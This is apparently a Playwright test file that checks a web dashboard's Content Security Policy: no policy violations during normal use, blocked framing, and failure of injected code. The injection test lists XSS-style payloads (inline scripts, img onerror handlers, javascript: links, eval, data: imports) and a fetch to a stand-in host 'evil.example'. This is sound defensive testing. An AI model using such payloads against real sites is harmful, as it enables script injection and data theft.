import type { BrowserContext, Page } from 'playwright/test';
import { expect, signIn, test } from './fixtures.ts';

/** What the browser refused to do for a page, as it happens. */
async function refusedIn(context: BrowserContext): Promise<string[]> {
  const refused: string[] = [];
  await context.exposeBinding('tellRefusal', (_source, words: string) => refused.push(words));
  await context.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
    window.tellRefusal([event.effectiveDirective, event.blockedURI, event.sample, event.sourceFile].join(' ')))`);
  context.on('console', (message) => {
    if (/Content Security Policy|Trusted/i.test(message.text())) refused.push(message.text());
  });
  return refused;
}

test('the dashboard asks for nothing that its policy forbids: pages, dialogs, menus and a sign-in', async ({
  browser,
  world,
}) => {
  const context = await browser.newContext({ baseURL: world.url });
  const refused = await refusedIn(context);
  const page = await context.newPage();
  try {
    const { admin } = world.people;
    await page.goto('/sign-in');
    await page.getByLabel('Username or email').fill(admin.username);
    await page.getByLabel('Password').fill(admin.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByRole('link', { name: world.organisation }).first()).toBeVisible();

    const gated = await world.gated();
    await page.goto(gated.address);
    await expect(page.getByText('0/2 approvals')).toBeVisible();
    await page.getByRole('button', { name: 'Bypass' }).first().click();
    await expect(page.getByRole('alertdialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: admin.username }).click();
    await page.keyboard.press('Escape');
    for (const path of [
      world.page(),
      world.page('policies'),
      world.page('pipelines'),
      `/orgs/${world.organisation}/environments`,
      `/orgs/${world.organisation}/members`,
      `/orgs/${world.organisation}/history`,
      '/account',
      '/',
    ]) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
    expect(refused).toEqual([]);
  } finally {
    await context.close();
  }
});

/** Does in the page what an attacker would who got something into it; whether the browser let it happen. */
const attempt = (page: Page, script: string): Promise<boolean> =>
  page.evaluate(`(async () => {
    // What a test evaluates itself may evaluate more; a moment later that is over.
    await new Promise((done) => setTimeout(done, 10));
    try { ${script} } catch { return false; }
    await new Promise((done) => setTimeout(done, 200));
    return window.wasHere === true;
  })()`);

test('what gets into a page runs nowhere, and tells nobody', async ({ page, world }) => {
  await signIn(page, world.url, world.people.reviewer);
  // It would be there, and would let itself be read.
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ body: 'told', headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.goto(`${world.url}/`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const element = (name: string, set: string) =>
    `const it = document.createElement('${name}'); ${set}; document.body.append(it);`;
  for (const script of [
    element('script', `it.textContent = 'window.wasHere = true'`),
    element('script', `it.text = 'window.wasHere = true'`),
    element('script', `it.src = 'data:text/javascript,window.wasHere=true'`),
    element('div', `it.innerHTML = '<img src=x onerror="window.wasHere=true">'`),
    element('div', `it.insertAdjacentHTML('beforeend', '<img src=x onerror="window.wasHere=true">')`),
    element('div', `it.setAttribute('onclick', 'window.wasHere=true'); it.click()`),
    element('iframe', `it.srcdoc = '<script>parent.wasHere=true</script>'`),
    element('a', `it.href = 'javascript:window.wasHere=true'; it.click()`),
    `eval('window.wasHere = true')`,
    `new Function('window.wasHere = true')()`,
    `setTimeout('window.wasHere = true', 0)`,
    `document.write('<script>window.wasHere = true</script>')`,
    `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.wasHere = true; }`,
    `await import('data:text/javascript,window.wasHere=true')`,
    `trustedTypes.createPolicy('evil', { createHTML: (text) => text }); window.wasHere = true;`,
    `await fetch('https://evil.example/?'); window.wasHere = true;`,
  ]) {
    expect([script, await attempt(page, script)]).toEqual([script, false]);
  }
  // The page is as it was.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});

test('no other site’s page holds one of ours', async ({ browser, world }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    await page.route('http://localhost:1/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${world.url}/" name="held"></iframe>` }),
    );
    await page.goto('http://localhost:1/');
    await expect
      .poll(() =>
        page
          .frames()
          .find((frame) => frame.name() === 'held')
          ?.url(),
      )
      .toMatch(/^chrome-error:/);
  } finally {
    await context.close();
  }
});
